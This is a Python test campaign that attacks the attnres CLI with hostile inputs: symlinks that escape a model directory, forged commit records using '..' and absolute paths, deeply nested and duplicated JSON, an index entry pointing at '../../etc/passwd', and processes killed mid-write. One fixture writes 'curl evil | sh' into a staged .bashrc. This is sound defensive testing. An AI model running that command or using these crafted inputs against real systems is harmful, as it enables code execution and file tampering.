#!/usr/bin/env python3
"""Hostile inputs and plain readers against attnres (docs/output-safety.md; issue 42).

Runs every command that reads or writes a directory against a corpus of hostile directories
built here (links out of the directory, crafted commit records and markers), hostile files in a
model (deep and duplicate JSON, a sparse 3 GiB config.json, truncated weights, a deep or
duplicated shard index), and a plain reader (not attnres) beside reports that are SIGKILLed at
random moments, and counts:
  runs             attnres processes started
  crashes          ended by a signal attnres did not get from us (SIGSEGV, SIGBUS, SIGABRT)
  hangs            still running after --timeout seconds
  outside_touched  a run after which a file outside the hostile directory had changed
  inputs_lost      a run after which one of its input files had changed or gone
  accepted         a hostile directory a command accepted (exit 0) where it must refuse
  mixed_plain      reads by a plain reader that saw two sets (report.md + report.json beside
                   killed reports; an index and its shards beside killed exports)
  mixed_locked     the same, by a reader following docs/output-safety.md (shared flock, no
                   commit record): must be 0
The suite (tests/cli/test_hostile_directories.cpp) holds the same reproducers; this is the
larger, randomised run quoted in closing notes.

usage: scripts/hostile-campaign.py BUILD/app/cli/attnres [--kills 60] [--seed 1]
"""
import argparse
import fcntl
import hashlib
import json
import os
import pathlib
import random
import shutil
import signal
import subprocess
import sys
import tempfile
import time

ROOT = pathlib.Path(__file__).resolve().parent.parent
MODEL = ["--layers", "1", "--d-model", "8", "--heads", "2", "--ffn", "8", "--vocab", "256",
         "--mode", "full"]


def tree(directory):
    """Relative path -> content hash, link target or '/' (links never followed)."""
    out = {}
    for root, dirs, files in os.walk(directory, followlinks=False):
        for name in dirs + files:
            path = os.path.join(root, name)
            relative = os.path.relpath(path, directory)
            if os.path.islink(path):
                out[relative] = "-> " + os.readlink(path)
            elif os.path.isdir(path):
                out[relative] = "/"
            else:
                with open(path, "rb") as f:
                    out[relative] = hashlib.sha1(f.read()).hexdigest()
    return out


class Campaign:
    def __init__(self, binary, timeout):
        self.binary, self.timeout = binary, timeout
        self.counts = dict(runs=0, crashes=0, hangs=0, outside_touched=0, inputs_lost=0,
                           accepted=0, reads_plain=0, mixed_plain=0, reads_locked=0,
                           mixed_locked=0)
        self.problems = []

    def run(self, args):
        self.counts["runs"] += 1
        try:
            p = subprocess.run([self.binary] + args, capture_output=True, timeout=self.timeout)
        except subprocess.TimeoutExpired:
            self.counts["hangs"] += 1
            self.problems.append(("hang", args))
            return None
        if p.returncode < 0:
            self.counts["crashes"] += 1
            self.problems.append((f"signal {-p.returncode}", args, p.stderr[-300:]))
        return p

    # ---- A corpus of hostile model directories beside `victims/`.
    def make_hostile(self, base):
        victims = base / "victims"
        (victims / "vdir").mkdir(parents=True)
        (victims / "v.txt").write_text("mine")
        (victims / "vdir" / "w.txt").write_text("mine too")
        kinds = ["record-through-link", "record-copied", "record-dotdot", "record-absolute",
                 "record-is-link", "staging-is-link", "marker-through-link", "marker-is-link",
                 "link-to-absolute"]
        made = []
        for kind in kinds:
            d = base / kind
            self.run(["init-model", "--out", str(d)] + MODEL)
            os.symlink("../victims", d / "lnk")
            staging = d / ".attnres-staging.4242.0"
            (staging / "lnk").mkdir(parents=True)
            (staging / "lnk" / ".bashrc").write_text("curl evil | sh")
            st = os.lstat(staging)
            record = {"owner": "model", "staging": staging.name,
                      "staging_id": [st.st_dev, st.st_ino], "files": ["lnk/.bashrc"],
                      "remove": ["lnk/v.txt"], "directories": ["lnk/vdir"],
                      "sets": {"model": ["config.json", "model.safetensors"]}}
            if kind == "record-copied":
                record["staging_id"] = [2049, 1234567]
            elif kind == "record-dotdot":
                record["remove"] = ["../victims/v.txt"]
            elif kind == "record-absolute":
                record["remove"] = [str(victims / "v.txt")]
            elif kind == "staging-is-link":
                shutil.rmtree(staging)
                os.symlink("../victims", staging)
                st = os.stat(victims)
                record.update(staging_id=[st.st_dev, st.st_ino], files=["v.txt"])
            elif kind == "link-to-absolute":
                os.remove(d / "lnk")
                os.symlink(str(victims), d / "lnk")
            if kind == "marker-through-link":
                record = None
                (d / ".attnres-output.json").write_text(json.dumps(
                    {"sets": {"model": ["config.json", "model.safetensors", "lnk/v.txt"]}}))
            elif kind == "marker-is-link":
                record = None
                os.remove(d / ".attnres-output.json")
                os.symlink("../victims/v.txt", d / ".attnres-output.json")
            elif kind == "record-is-link":
                (base / f"{kind}.json").write_text(json.dumps(record))
                os.symlink(f"../{kind}.json", d / ".attnres-commit.json")
                record = None
            if record is not None:
                (d / ".attnres-commit.json").write_text(json.dumps(record))
            made.append((kind, d, record is not None or kind == "record-is-link"))
        return victims, made

    def hostile(self, work):
        base = work / "hostile"
        base.mkdir()
        data = base / "data.txt"
        data.write_text("the quick brown fox jumps over the lazy dog. " * 40)
        victims, made = self.make_hostile(base)
        before_victims = tree(victims)
        for kind, d, has_record in made:
            out = base / f"out-{kind}"
            readers = [["inspect", str(d)], ["forward", "--model", str(d), "--tokens", "1 2 3"],
                       ["read", "--model", str(d), "--tokens", "1 7 12 5", "--token", "1", "--read", "1"],
                       ["bench", "forward", "--model", str(d), "--seq", "4", "--repeat", "1"],
                       ["export", "--model", str(d), "--format", "lab", "--out", str(out)],
                       ["train", "--model", str(d), "--data", str(data), "--steps", "1", "--seq",
                        "4", "--batch", "1", "--out", str(out)]]
            writers = [["recover", str(d)], ["init-model", "--out", str(d)] + MODEL,
                       ["init-model", "--out", str(d), "--force"] + MODEL,
                       ["sweep", "--sublayers", "8", "--blocks", "2", "--d-model", "16", "--x",
                        "blocks", "--values", "1,2", "--metric",
                        "io_multiples_of_d.block_two_phase", "--name", "io", "--out", str(d),
                        "--force"],
                       ["forward", "--model", str(d), "--tokens", "1 2", "--chart", str(d)]]
            for args in readers + writers:
                before = tree(d)
                p = self.run(args)
                if args in readers and tree(d) != before:
                    self.counts["inputs_lost"] += 1  # a reader changed what it read
                    self.problems.append(("input changed", kind, args))
                if tree(victims) != before_victims:
                    self.counts["outside_touched"] += 1
                    self.problems.append(("outside touched", kind, args))
                    shutil.rmtree(victims)
                    (victims / "vdir").mkdir(parents=True)
                    (victims / "v.txt").write_text("mine")
                    (victims / "vdir" / "w.txt").write_text("mine too")
                if p is not None and p.returncode == 0 and has_record:
                    self.counts["accepted"] += 1
                    self.problems.append(("accepted", kind, args))
                shutil.rmtree(out, ignore_errors=True)

    # ---- Hostile files in an otherwise good model: each must be refused (exit 1), quickly.
    def hostile_files(self, work):
        base = work / "files"
        base.mkdir()
        good = base / "good"
        self.run(["init-model", "--out", str(good)] + MODEL)
        config = (good / "config.json").read_text()
        cases = {
            "deep-config": lambda d: (d / "config.json").write_text("[" * 100000 + "]" * 100000),
            "duplicate-key": lambda d: (d / "config.json").write_text(
                config.replace("{", '{"hidden_size": 8, ', 1)),
            "sparse-config": lambda d: os.truncate(d / "config.json", 3 << 30),
            "truncated-weights": lambda d: os.truncate(
                d / "model.safetensors", os.path.getsize(d / "model.safetensors") // 2),
            "deep-index": lambda d: (os.remove(d / "model.safetensors"),
                                     (d / "model.safetensors.index.json").write_text(
                                         '{"weight_map": ' + "[" * 100000 + "]" * 100000 + "}")),
            "duplicate-index": lambda d: (os.remove(d / "model.safetensors"),
                                          (d / "model.safetensors.index.json").write_text(
                                              '{"weight_map": {"lm_head.weight": "a.safetensors",'
                                              ' "lm_head.weight": "../../etc/passwd"}}')),
        }
        for name, spoil in cases.items():
            d = base / name
            shutil.copytree(good, d)
            spoil(d)
            for args in (["inspect", str(d)], ["forward", "--model", str(d), "--tokens", "1 2"]):
                p = self.run(args)
                if p is not None and p.returncode == 0:
                    self.counts["accepted"] += 1
                    self.problems.append(("accepted", name, args))

    def read_twice(self, out, one_set):
        """Reads `out` as a plain reader (no lock) and as docs/output-safety.md says (a shared
        flock, and no commit record), counting the reads that saw two sets."""
        self.counts["reads_plain"] += 1
        self.counts["mixed_plain"] += not one_set()
        fd = os.open(out, os.O_RDONLY)
        try:
            fcntl.flock(fd, fcntl.LOCK_SH)
            if not (out / ".attnres-commit.json").exists():
                self.counts["reads_locked"] += 1
                self.counts["mixed_locked"] += not one_set()
        finally:
            os.close(fd)

    # ---- A plain reader beside reports killed at random moments.
    def plain_reader(self, work, kills, rng):
        scenarios = ROOT / "scenarios"
        a, b = scenarios / "paper-table1.toml", scenarios / "pipeline-cache.toml"
        out = work / "r"
        titles = {}
        for s in (a, b):
            self.run(["report", str(s), "--out", str(out)])
            md = (out / "report.md").read_bytes()
            titles[hashlib.sha1((out / "report.json").read_bytes()).hexdigest()] = md

        def one_set():
            try:
                md = (out / "report.md").read_bytes()
                js = (out / "report.json").read_bytes()
            except OSError:
                return False
            return titles.get(hashlib.sha1(js).hexdigest()) == md

        for kill in range(kills):
            p = subprocess.Popen([self.binary, "report", str(b if kill % 2 else a), "--out",
                                  str(out)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            self.counts["runs"] += 1
            deadline = time.monotonic() + rng.uniform(0.05, 1.5)
            while time.monotonic() < deadline and p.poll() is None:
                self.read_twice(out, one_set)
            if p.poll() is None:
                p.send_signal(signal.SIGKILL)
            p.wait()
            r = self.run(["recover", str(out)])
            if r is None or r.returncode != 0:
                self.problems.append(("recover failed", r.stderr[-300:] if r else "hang"))

    # ---- The same beside exports of one model in two shardings (the plain reader).
    def plain_export_reader(self, work, kills, rng):
        model = work / "export-model"
        self.run(["init-model", "--layers", "2", "--d-model", "64", "--heads", "4", "--ffn", "96",
                  "--vocab", "256", "--mode", "block", "--block-size", "2", "--out", str(model)])
        out = work / "exported"
        shardings = ["0.02", "0.05"]
        for size in shardings:
            self.run(["export", "--model", str(model), "--out", str(out), "--max-shard-size",
                      size])
        # Every step of the switch, deterministically (the kill hook of docs/output-safety.md):
        # what a plain reader sees right after a kill there, before any attnres command looks.
        old = work / "exported.old"
        shutil.copytree(out, old)
        for at in range(1, 200):
            shutil.rmtree(out)
            shutil.copytree(old, out)
            env = dict(os.environ, ATTNRES_TEST_KILL_AT=str(at))
            p = subprocess.run([self.binary, "export", "--model", str(model), "--out", str(out),
                                "--max-shard-size", shardings[0]], env=env, capture_output=True)
            self.counts["runs"] += 1
            if p.returncode != -signal.SIGKILL:
                break
            self.read_twice(out, lambda: export_consistent(out))
            self.run(["recover", str(out)])
            self.counts["mixed_locked"] += not export_consistent(out)  # recovered: one set
        for kill in range(kills):
            p = subprocess.Popen([self.binary, "export", "--model", str(model), "--out", str(out),
                                  "--max-shard-size", shardings[kill % 2]],
                                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            self.counts["runs"] += 1
            deadline = time.monotonic() + rng.uniform(0.02, 0.6)
            while time.monotonic() < deadline and p.poll() is None:
                self.read_twice(out, lambda: export_consistent(out))
            if p.poll() is None:
                p.send_signal(signal.SIGKILL)
            p.wait()
            r = self.run(["recover", str(out)])
            if r is None or r.returncode != 0:
                self.problems.append(("recover failed", r.stderr[-300:] if r else "hang"))


def export_consistent(directory):
    """Whether a plain reader sees one sharded export: every shard the index names holds exactly
    the tensors the index puts in it."""
    try:
        index = json.loads((directory / "model.safetensors.index.json").read_bytes())
        by_shard = {}
        for name, shard in index["weight_map"].items():
            by_shard.setdefault(shard, set()).add(name)
        for shard, names in by_shard.items():
            with open(directory / shard, "rb") as f:
                size = int.from_bytes(f.read(8), "little")
                header = json.loads(f.read(size))
            if set(k for k in header if k != "__metadata__") != names:
                return False
        return True
    except (OSError, ValueError, KeyError):
        return False


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("binary")
    parser.add_argument("--kills", type=int, default=60)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--timeout", type=float, default=120)
    options = parser.parse_args()
    campaign = Campaign(str(pathlib.Path(options.binary).resolve()), options.timeout)
    work = pathlib.Path(tempfile.mkdtemp(prefix="attnres-hostile-"))
    try:
        campaign.hostile(work)
        campaign.hostile_files(work)
        campaign.plain_reader(work, options.kills, random.Random(options.seed))
        campaign.plain_export_reader(work, options.kills, random.Random(options.seed + 1))
    finally:
        shutil.rmtree(work, ignore_errors=True)
    print(json.dumps(campaign.counts, indent=1))
    for problem in campaign.problems[:40]:
        print(problem)
    bad = ("crashes", "hangs", "outside_touched", "inputs_lost", "accepted", "mixed_locked")
    return 1 if any(campaign.counts[k] for k in bad) else 0


if __name__ == "__main__":
    sys.exit(main())
